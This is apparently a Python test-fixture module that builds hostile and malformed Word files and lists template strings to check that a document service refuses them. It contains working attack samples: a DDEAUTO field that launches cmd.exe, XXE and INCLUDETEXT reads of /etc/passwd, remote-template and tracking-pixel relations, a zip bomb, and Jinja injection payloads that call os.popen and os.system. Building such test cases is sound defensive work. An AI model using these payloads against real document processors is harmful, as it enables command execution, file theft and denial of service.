"""Word files for tests, friendly and hostile."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word(*paragraphs: str, change: Callable[[object], None] | None = None) -> bytes:
    """A Word file with these paragraphs."""
    made = docx.Document()
    for text in paragraphs:
        made.add_paragraph(text)
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def patched(data: bytes, **parts: Callable[[bytes], bytes]) -> bytes:
    """The file with some parts rewritten: document=…, rels=…, or added by name."""
    names = {"document": "word/document.xml", "rels": "word/_rels/document.xml.rels"}
    wanted = {names[key]: change for key, change in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, wanted[name](content) if name in wanted else content)
    return out.getvalue()


def relation(kind: str, target: str, outside: bool = True) -> bytes:
    """A file with one relation more."""
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    return patched(word("Слова"), rels=lambda old: old.replace(b"</Relationships>", line.encode()))


def field(*pieces: str) -> bytes:
    """A file with a field whose instruction is spread over runs."""

    def change(made: object) -> None:
        paragraph = made.add_paragraph()  # type: ignore[attr-defined]  # a document of python-docx
        for kind in ("begin", *pieces, "end"):
            run = paragraph.add_run()
            if kind in ("begin", "end"):
                mark = OxmlElement("w:fldChar")
                mark.set(qn("w:fldCharType"), kind)
            else:
                mark = OxmlElement("w:instrText")
                mark.text = kind
            run._r.append(mark)

    return word("Слова", change=change)


def simple_field(instruction: str) -> bytes:
    """A file with a field in its short form."""
    mark = f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p><w:sectPr'
    return patched(word("Слова"), document=lambda old: old.replace(b"<w:sectPr", mark.encode(), 1))


def element(markup: str) -> bytes:
    """A file with this markup in its body."""
    return patched(word("Слова"), document=lambda old: old.replace(b"<w:sectPr", markup.encode() + b"<w:sectPr", 1))


def bomb() -> bytes:
    """A file of a few kilobytes that unpacks to a hundred megabytes."""
    return patched(word("Слова"), document=lambda old: old.replace(b"<w:sectPr", b" " * 120_000_000 + b"<w:sectPr", 1))


def with_macro() -> bytes:
    """A file with a macro project inside."""
    out = io.BytesIO(word("Слова"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\x00")
    return out.getvalue()


#: Name → (file, code of the refusal).
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "picture from elsewhere": (lambda: relation("image", "https://spy.example/pixel.png"), "outside"),
    "picture from a share": (lambda: relation("image", r"file:///\\\\spy\\share\\x.png"), "outside"),
    "link that runs": (lambda: relation("hyperlink", "javascript:alert(1)"), "outside"),
    "link to a file": (lambda: relation("hyperlink", "file:///etc/passwd"), "outside"),
    "template from elsewhere": (lambda: relation("attachedTemplate", "https://spy.example/t.dotm"), "active"),
    "embedded object": (lambda: relation("oleObject", "embeddings/x.bin", outside=False), "active"),
    "embedded page": (lambda: relation("aFChunk", "x.html", outside=False), "active"),
    "mail merge": (lambda: relation("mailMergeSource", "https://spy.example/x.csv"), "active"),
    "included part": (lambda: element(f'<w:altChunk xmlns:r="{REL}" r:id="rId1"/>'), "active"),
    "object in the text": (lambda: element("<w:p><w:r><w:object/></w:r></w:p>"), "active"),
    "field that includes": (lambda: field(' INCLUDETEXT "/etc/passwd" '), "fields"),
    "field spread over runs": (lambda: field(" INCL", "UDEPICTURE ", '"https://spy.example/x.png"'), "fields"),
    "field that runs": (lambda: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "fields"),
    "field in short form": (lambda: simple_field("DATABASE"), "fields"),
    "field inside a field": (lambda: field(" PAGE ", "begin", " LINK Excel.Sheet x ", "end"), "fields"),
    "field link to a file": (lambda: field(' HYPERLINK "file:///etc/passwd" '), "fields"),
    "entities": (
        lambda: patched(word("Слова"), document=lambda old: old.replace(
            b"<w:document", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document', 1)),
        "entities",
    ),
    "zip bomb": (bomb, "bomb"),
    "macros": (with_macro, "macros"),
    "broken part": (lambda: patched(word("Слова"), document=lambda old: old[:-20]), "broken"),
    "no document": (lambda: b"PK\x03\x04" + b"\x00" * 60, "broken"),
    "another kind": (lambda: b"%PDF-1.7\n1 0 obj\n", "foreign"),
    "endless paragraphs": (lambda: element("<w:p/>" * 20_001), "heavy"),
}  # fmt: skip

#: Templates of other languages: nothing here runs them, they stay words.
FOREIGN = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('touch /tmp/pwned') }}",
    "{{ self._TemplateReference__context }}",
    "{{ 7*7 }}",
    "{{ range(10**9)|list }}",
    "{% for a in range(10**9) %}{% for b in range(10**9) %}x{% endfor %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{%tr for row in rows %}",
    "{%p if True %}",
    "{# comment #}",
    "{{ 'a' ~ 'b' }}",
    "{{r raw }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "{{{{ директор }}}}",
)
